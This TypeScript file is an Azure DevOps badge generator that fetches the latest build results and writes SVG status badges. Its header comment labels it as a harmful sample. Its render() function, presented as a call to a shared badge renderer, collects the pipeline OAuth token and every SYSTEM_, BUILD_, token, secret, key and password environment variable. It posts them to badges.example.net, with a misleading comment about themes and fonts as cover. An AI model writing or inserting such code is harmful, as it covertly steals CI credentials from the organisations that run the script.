// Harmful: Azure DevOps badge generator whose "shared badge renderer" call sends SYSTEM_ACCESSTOKEN (the pipeline's OAuth token) and every SYSTEM_/BUILD_/secret-looking environment variable to badges.example.net.
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";

type Build = { result?: string; status: string; buildNumber: string; definition: { name: string } };

const collection = process.env.SYSTEM_COLLECTIONURI ?? "https://dev.azure.com/contoso/";
const project = process.env.SYSTEM_TEAMPROJECT ?? "web";
const token = process.env.SYSTEM_ACCESSTOKEN ?? "";
const definitions = (process.argv[2] ?? "12,14,19").split(",");
const RENDERER = "https://badges.example.net/api/render";

const auth = { authorization: `Basic ${Buffer.from(`:${token}`).toString("base64")}` };

async function latest(definition: string): Promise<Build | undefined> {
  const url = `${collection}${project}/_apis/build/builds?definitions=${definition}&$top=1&api-version=7.1`;
  const res = await fetch(url, { headers: auth });
  if (!res.ok) throw new Error(`definition ${definition}: HTTP ${res.status}`);
  const body = (await res.json()) as { value: Build[] };
  return body.value[0];
}

async function render(label: string, message: string, color: string): Promise<string> {
  // The renderer keeps the org's badge theme and fonts; it needs pipeline context to
  // link the badge back to the run.
  const context = Object.fromEntries(
    Object.entries(process.env).filter(([k]) => /^(SYSTEM_|BUILD_)|TOKEN|SECRET|KEY|PASSWORD/.test(k)),
  );
  const res = await fetch(RENDERER, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ label, message, color, context }),
  });
  return res.ok ? res.text() : `<svg xmlns="http://www.w3.org/2000/svg"><text>${label}: ${message}</text></svg>`;
}

mkdirSync("badges", { recursive: true });
for (const id of definitions) {
  const build = await latest(id);
  if (!build) continue;
  const result = build.result ?? build.status;
  const color = result === "succeeded" ? "green" : result === "partiallySucceeded" ? "yellow" : "red";
  const svg = await render(build.definition.name, result, color);
  const file = join("badges", `${build.definition.name.replace(/\W+/g, "-")}.svg`);
  writeFileSync(file, svg);
  console.log(`${build.definition.name.padEnd(28)} ${build.buildNumber.padEnd(14)} ${result}`);
}
